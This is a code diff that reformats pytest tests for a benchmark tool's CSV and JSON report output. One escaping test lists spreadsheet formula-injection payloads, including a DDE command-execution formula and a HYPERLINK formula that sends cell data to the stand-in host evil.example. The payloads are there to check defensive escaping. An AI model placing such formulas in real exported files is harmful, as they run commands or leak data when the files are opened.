@@ -14,17 +14,30 @@ from test_summary_metrics import ROWS
 
 @pytest.fixture
 def run_file(tmp_path):
-    metadata = {"command": "run", "complete": True,
-                "run": {"backend": "inprocess", "scenario": "tiny", "model": "m", "concurrency": 1,
-                        "started_at": "2026-12-01T10:20:30+0000", "cache": {"enabled": True}}}
+    metadata = {
+        "command": "run",
+        "complete": True,
+        "run": {
+            "backend": "inprocess",
+            "scenario": "tiny",
+            "model": "m",
+            "concurrency": 1,
+            "started_at": "2026-12-01T10:20:30+0000",
+            "cache": {"enabled": True},
+        },
+    }
     return write_rows(tmp_path / "run-a.parquet", ROWS, metadata, RUN_SCHEMA)
 
 
 def test_csv_to_stdout_one_record_per_run(kvbench, run_file):
-    code, stdout, stderr = kvbench("report", run_file, run_file, "--format", "csv", "--metric-percentiles", "50,99.9")
+    code, stdout, stderr = kvbench(
+        "report", run_file, run_file, "--format", "csv", "--metric-percentiles", "50,99.9"
+    )
     assert code == 0, stderr
     records = list(csv.DictReader(io.StringIO(stdout)))
-    assert len(records) == 2 and records[0]["path"] == str(run_file) and records[0]["date"] == "20261201-102030"
+    assert (
+        len(records) == 2 and records[0]["path"] == str(run_file) and records[0]["date"] == "20261201-102030"
+    )
     assert float(records[0]["duration"]) == pytest.approx(1.0) and records[0]["completed"] == "3"
     assert float(records[0]["request_throughput"]) == pytest.approx(3.0)
     assert float(records[0]["median_ttft_ms"]) == pytest.approx(40) and "p99.9_itl_ms" in records[0]
@@ -32,8 +45,9 @@ def test_csv_to_stdout_one_record_per_run(kvbench, run_file):
 
 
 def test_json_to_a_folder_with_goodput(kvbench, run_file, tmp_path):
-    code, stdout, stderr = kvbench("report", run_file, "--format", "json", "--goodput", "ttft:50", "--out",
-                                   tmp_path / "rep")
+    code, stdout, stderr = kvbench(
+        "report", run_file, "--format", "json", "--goodput", "ttft:50", "--out", tmp_path / "rep"
+    )
     assert code == 0, stderr
     assert "wrote 1 run record(s)" in stdout
     (record,) = json.loads((tmp_path / "rep" / "summary.json").read_text())
@@ -46,15 +60,29 @@ def test_bad_format_is_a_usage_error(kvbench, run_file):
     assert code == 2 and "--format" in stderr
 
 
-FORMULAS = ["=cmd|' -C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
-            "\tx"]  # a leading carriage return: test_negative_numbers_are_numbers_not_formulas (capture turns it into \n)
+FORMULAS = [
+    "=cmd|' -C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\tx",
+]  # a leading carriage return: test_negative_numbers_are_numbers_not_formulas (capture turns it into \n)
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_csv_cells_that_a_spreadsheet_would_evaluate_are_escaped(kvbench, tmp_path, formula):
-    metadata = {"command": "run", "complete": True,
-                "run": {"backend": "openai", "scenario": formula, "model": formula, "concurrency": 1,
-                        "started_at": "2026-12-01T10:20:30+0000"}}
+    metadata = {
+        "command": "run",
+        "complete": True,
+        "run": {
+            "backend": "openai",
+            "scenario": formula,
+            "model": formula,
+            "concurrency": 1,
+            "started_at": "2026-12-01T10:20:30+0000",
+        },
+    }
     path = write_rows(tmp_path / "run-a.parquet", ROWS, metadata, RUN_SCHEMA)
     code, stdout, stderr = kvbench("report", path, "--format", "csv")
     assert code == 0, stderr
